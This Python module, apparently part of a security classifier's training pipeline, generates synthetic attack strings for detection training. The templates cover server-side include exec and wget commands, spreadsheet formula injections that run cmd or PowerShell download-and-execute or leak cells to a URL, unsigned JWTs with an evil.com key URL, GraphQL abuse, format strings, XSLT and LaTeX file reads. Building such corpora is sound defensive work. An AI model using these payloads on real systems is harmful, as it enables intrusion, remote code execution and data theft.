"""What fits no other class: server-side includes, spreadsheets, GraphQL, tokens, format strings."""

from __future__ import annotations

from base64 import urlsafe_b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.kinds import BODY, COOKIE, HEADER, VALUE, AttackKind
from securitai.verdict import Category


def _b64(text: str) -> str:
    return urlsafe_b64encode(text.encode()).decode().rstrip("=")


def unsigned_token(rng: Random) -> str:
    """A JSON web token whose header asks for no signature or carries an injection."""
    alg = ("none", "None", "NONE", "nOnE", "null", "")[int(rng.random() * 6)]
    extra = ("", "", ',"kid":"../../../../dev/null"', ',"kid":"x\' union select \'a"',
             ',"jku":"http://evil.com/jwks.json"', ',"kid":"|id"')[int(rng.random() * 6)]  # fmt: skip
    head = (
        f'{{"alg":"{alg}","typ":"JWT"{extra}}}'
        if rng.random() < 0.7
        else (f'{{"typ":"JWT","alg":"{alg}"{extra}}}')
    )
    user = ("admin", "root", draw(rng, "abcdefghijklm", 3, 8))[int(rng.random() * 3)]
    body = f'{{"sub":"{user}","role":"admin","iat":{1500000000 + int(rng.random() * 2e8)}}}'
    tail = "" if rng.random() < 0.7 else draw(rng, "abcdefABCDEF0123456789-_", 5, 40)
    return f"{_b64(head)}.{_b64(body)}.{tail}"


def alias_batch(rng: Random) -> str:
    """A GraphQL document that calls one mutation or field many times by aliases."""
    name = ("login", "resetPassword", "verifyOtp", "user", "redeem", "systemUpdate")[
        int(rng.random() * 6)
    ]
    count = 8 + int(rng.random() * 60)
    calls = [
        f'a{index}:{name}(input:{{pin:"{int(rng.random() * 10000):04d}"}}){{token}}'
        for index in range(count)
    ]
    return f"mutation {{{' '.join(calls)}}}"


def deep_query(rng: Random) -> str:
    """A GraphQL query that nests the same two fields many times."""
    first, second = draw(rng, "abcdefghijkl", 4, 8), draw(rng, "abcdefghijkl", 4, 8)
    depth = 12 + int(rng.random() * 40)
    return "query {" + f"{first}{{{second}{{" * depth + "id" + "}}" * depth + "}"


_G = Grammar(
    r"""
ssi:
  4×<!--#exec ‹cmd¦cgi›="‹ucmd›"‹?sp›-->
  2×<!--#include ‹file¦virtual›="‹u_file›"‹?sp›-->
  <!--#include virtual="http://‹host›/‹az›" -->
  <!--#echo var="‹DATE_LOCAL¦DOCUMENT_ROOT¦HTTP_USER_AGENT¦DOCUMENT_NAME¦REMOTE_ADDR¦DATE_GMT›"‹?sp›-->
  <!--#printenv‹?sp›-->
  <!--#config errmsg="‹az›" -->
  <!--#set var="‹az›" value="‹ucmd0›"-->
  <!--#fsize file="‹u_file›"-->
  <!--#exec cmd="wget ‹url› -O /tmp/‹az›" -->
  <!--#exec%20cmd="‹ucmd0›"-->
  &lt;!--#exec%20cmd=&quot;‹ucmd0›&quot;--&gt;
  3×<esi:include src="‹url›"‹?sp›/>
  <esi:include src=‹url›/>
  <esi:include src="‹url›" stylesheet="‹url›"></esi:include>
  <esi:inline name="/‹az›.html" fetchable="yes"><script>alert(‹d1›)</script></esi:inline>
  <esi:vars>$(‹HTTP_COOKIE¦HTTP_HEADER{Cookie}¦QUERY_STRING›)</esi:vars>
  <esi:assign name="‹az›" value="'<script>'"/><esi:vars name="$(‹az›)"/>
  <esi:debug/>
  <!--esi ‹az› -->
  <!--esi $(HTTP_COOKIE) -->
  <!--esi/$url_decode('"><svg/onload=alert(‹d1›)>')/-->
  hell<!--esi-->o
  <dotnet:include src="‹url›"/>
sheet:
  4×‹eq›cmd|'‹sp›/‹c¦C› ‹wcmd›'!‹cell›
  2×‹eq›HYPERLINK("‹url›?leak="&‹cell›,"‹word›")
  ‹eq›WEBSERVICE("‹url›"&‹cell›)
  ‹eq›IMPORTXML(CONCAT("‹url›?v=",CONCATENATE(‹cell›:‹cell›)),"//a")
  ‹eq›IMPORTDATA("‹url›")
  ‹eq›IMPORTFEED("‹url›")
  ‹eq›IMPORTRANGE("‹url›","‹cell›")
  ‹eq›IMAGE("‹url›?v="&‹cell›)
  ‹eq›DDE("cmd";"/C ‹wcmd0›";"__DdeLink_60_870516294")
  ‹eq›rundll32|'URL.dll,OpenURL ‹url›'!A
  ‹eq›MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c ‹wcmd0›'!''
  ‹eq›10+20+cmd|' /C ‹wcmd0›'!‹cell›
  ‹eq›2+5+cmd|' /C ‹wcmd0›'!‹cell›
  ‹eq›'file://‹u_file›'#$passwd.A1
  ‹eq›EXEC("‹wcmd0›")
  ‹eq›CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"‹url›","c:\‹az›.exe",0,0)
  ‹eq›QUERY(IMPORTHTML("‹url›","table",1),"select *")
  ‹eq›SUM(1+1)*cmd|' /C ‹wcmd0›'!‹cell›
  ‹eq›cmd|' /C powershell IEX(wget ‹host›/‹az›)'!A0
  "=cmd|' /C ‹wcmd0›'!A0"
  ;=cmd|' /C ‹wcmd0›'!A0
  ‹word›,=HYPERLINK("‹url›")
eq = =¦=¦+¦-¦@¦%0A=¦=-¦+-¦@SUM(1+1)*¦	=
cell = A0¦A1¦B2¦Z100¦'A1'¦D5¦A2¦_xlbgnm.A1
graph:
  3×{__schema{‹intro›}}
  2×query{__schema{‹intro›}}
  {__type(name:"‹Az›"){name fields{name type{name kind ofType{name}}}}}
  query { __schema ‹nl›{ ‹intro› } }
  {"query":"{__schema{‹intro›}}"}
  {"query":"query{__type(name:\"‹Az›\"){fields{name}}}"}
  ‹batch›
  ‹deep›
  query ‹x=az› { ...‹y=az› } fragment ‹$y› on Query { ...‹$y› }
  {‹az›(‹az›:"‹pre›' or 1=1-- -"){id}}
  {‹az›(id:"‹pre›;‹ucmd0›"){id}}
  {system_diagnostics(cmd:"‹ucmd0›")}
  mutation{importPaste(host:"‹host›",port:‹#1-9999›,path:"/;‹ucmd0›",scheme:"http"){result}}
  query @‹az›@‹az›@‹az›@‹az›@‹az›@‹az› {__typename}
intro:
  types{name}
  types{name,fields{name}}
  queryType{name}
  types{name fields{name args{name description type{name kind ofType{name kind}}}}}
  mutationType{name fields{name}}
  directives{name description locations}
  subscriptionType{name}
format:
  %s%s%s%s%s%s
  %n%n%n%n%n
  %x%x%x%x
  %p%p%p%p%p%p%p%p
  %‹#1-99›$s%‹#1-99›$n
  %.‹#1000-99999›d
  AAAA%08x.%08x.%08x.%08x
  %s%p%x%d%s%p%x%d
  %99999999999s
  %08x|%08x|%08x
  %‹#1-999›$p
  {0.__class__.__init__.__globals__}
  {‹az›.__init__.__globals__[‹az›]}
  %(‹az›)s%(‹az›)s%n
  ‹overflow›
  ‹overflow›%n
  ‹az›=‹overflow›
tokens:
  ‹token›
  Bearer ‹token›
xsl:
  <xsl:value-of select="system-property('xsl:vendor')"/>
  <xsl:value-of select="document('‹u_file›')"/>
  <xsl:value-of select="unparsed-text('‹u_file›')"/>
  <xsl:include href="‹url›"/>
  <xsl:import href="‹url›"/>
  <xsl:value-of select="php:function('‹system¦phpinfo¦readfile›','‹u_file›')"/>
latex:
  \input{‹u_file›}
  \include{‹u_file›}
  \immediate\write18{‹ucmd›}
  \write18{‹ucmd0› > ‹az›.tex}\input{‹az›.tex}
  \newread\‹x=az›\openin\‹$x›=‹u_file›\read\‹$x› to\‹az›
  \lstinputlisting{‹u_file›}
  \verbatiminput{‹u_file›}
  \openout\‹az›=‹az›.tex
  \catcode`\$=12 \input{‹u_file›}
  \url{javascript:alert(‹d1›)}
  \href{javascript:alert(‹d1›)}{‹word›}
""",
    PARTS,
    {
        "token": unsigned_token,
        "batch": alias_batch,
        "deep": deep_query,
        "overflow": lambda rng: (
            "Aa0%\x90"[int(rng.random() * 5)] * (200 + int(rng.random() * 5000))
        ),
    },
)
_C = Category.OTHER
KINDS = (
    AttackKind("other.ssi", _C, _G.maker("ssi"), 3.0, (VALUE, COOKIE, HEADER)),
    AttackKind("other.sheet", _C, _G.maker("sheet"), 2.0),
    AttackKind("other.graphql", _C, _G.maker("graph"), 0.5, (VALUE,)),
    AttackKind("other.format", _C, _G.maker("format"), 1.0),
    AttackKind("other.token", _C, _G.maker("tokens"), 1.0, (HEADER, COOKIE, VALUE)),
    AttackKind("other.xslt", _C, _G.maker("xsl"), 0.5, (VALUE, BODY)),
    AttackKind("other.latex", _C, _G.maker("latex"), 0.7),
)
